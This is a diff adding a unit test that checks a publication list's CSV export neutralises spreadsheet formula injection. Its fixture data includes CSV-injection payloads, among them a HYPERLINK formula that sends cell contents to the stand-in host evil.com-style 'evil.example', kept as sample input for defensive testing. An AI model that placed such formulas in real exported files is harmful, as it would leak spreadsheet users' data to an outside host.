@@ -245,3 +245,22 @@ def test_bibtex_keys_are_the_stored_keys_so_they_stay_stable_as_the_list_grows(c
 def test_names_split_for_csl_and_join_back(name, csl):
     assert split_name(name) == csl
     assert joined_name(split_name(name)) == name
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, db):
+    venue = make_venue("=CMD", "@SUM(A1:A9)")
+    make_publication(
+        title='=HYPERLINK("https://evil.example/?"&A1,"Click")', authors=["+1 Attacker", "-2 Other", "@Third"],
+        venue=venue, note="\t=1+1", key="formula-paper", doi="10.1/plain",
+    )
+    import csv
+    import io
+
+    text = client.get("/publications/", {"format": "csv"}).content.decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+
+    (row,) = rows
+    for column in ("title", "authors", "venue", "venue acronym", "note"):
+        assert row[column][0] not in "=+-@\t\r", (column, row[column])
+    assert row["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"  # the text is kept, shown as text
+    assert row["doi"] == "10.1/plain" and row["key"] == "formula-paper"
